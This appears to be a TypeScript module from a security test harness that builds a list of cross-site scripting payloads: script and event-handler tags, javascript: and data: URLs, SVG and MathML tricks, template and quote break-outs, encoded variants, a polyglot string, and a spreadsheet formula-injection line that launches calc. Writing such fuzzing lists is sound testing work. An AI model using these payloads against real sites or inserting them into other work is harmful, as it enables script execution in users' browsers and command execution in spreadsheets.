import { roundsOf } from '../rounds.ts'

export const RUN = 'xss(1)'

const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src=data:text/javascript,${RUN}></script>`,
  `<script type=module>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}"/>`,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text x=20 y=20>x</text></a></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<math><a xlink:href="javascript:${RUN}">x</a></math>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}><option>x</select>`,
  `<textarea autofocus onfocus=${RUN}></textarea>`,
  `<details open ontoggle=${RUN}><summary>x</summary></details>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href=" &#14; javascript:${RUN}">x</a>`,
  `<a href="java&#x09;script:${RUN}">x</a>`,
  `<form action="javascript:${RUN}"><button autofocus>x</button></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href="javascript:${RUN}//">`,
  `<link rel=stylesheet href="javascript:${RUN}">`,
  `<link rel=import href="data:text/html,<script>${RUN}</script>">`,
  `<style>@import 'javascript:${RUN}';</style>`,
  `<div style="background:url(javascript:${RUN})">x</div>`,
  `<div style=width:expression(${RUN})>x</div>`,
  `<style>*{animation:a}@keyframes a{}</style><b onanimationstart=${RUN}>x</b>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<x onclick=${RUN} style=position:fixed;inset:0>x</x>`,
  `<p onpointerenter=${RUN}>x</p>`,
  `<custom-element onfocus=${RUN} tabindex=0 autofocus>`,
  `<isindex type=image src=1 onerror=${RUN}>`,
  `<image src=x onerror=${RUN}>`,
  `<keygen autofocus onfocus=${RUN}>`,
  `<picture><source srcset=x><img onerror=${RUN} src=x></picture>`,
  `<portal src="javascript:${RUN}">`,
  `<!--><img src=x onerror=${RUN}>-->`,
]
const WORDS = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:image/svg+xml,<svg onload=${RUN}>`,
  `vbscript:${RUN}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `[[${RUN}]]`,
  `';${RUN}//`,
  `";${RUN}//`,
  `\\";${RUN}//`,
  `*/${RUN}/*`,
  `-${RUN}-`,
  `{name, select, other {<script>${RUN}</script>}}`,
  `{0, plural, other {#}}<img src=x onerror=${RUN}>`,
  `]]><script>${RUN}</script>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `＜script＞${RUN}＜/script＞`,
  `__proto__`,
  `=cmd|'/c calc'!A1`,
]
const AROUND: ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `">${payload}`,
  (payload) => `'>${payload}`,
  (payload) => `</title></textarea></script></style>${payload}`,
]

/** One text breaking out of everything at once. */
const POLYGLOT = `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */${RUN} )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${RUN}//>`

const ALL = [POLYGLOT, ...AROUND.flatMap((around) => [...ELEMENTS, ...WORDS].map(around))]
const LONGEST = ALL.slice(0, 300)
const STRIDE = Math.ceil(LONGEST.length / roundsOf('payloads'))

/** As many as the run takes, of every kind. */
export const PAYLOADS: readonly string[] = LONGEST.filter((_, index) => index % STRIDE === 0)
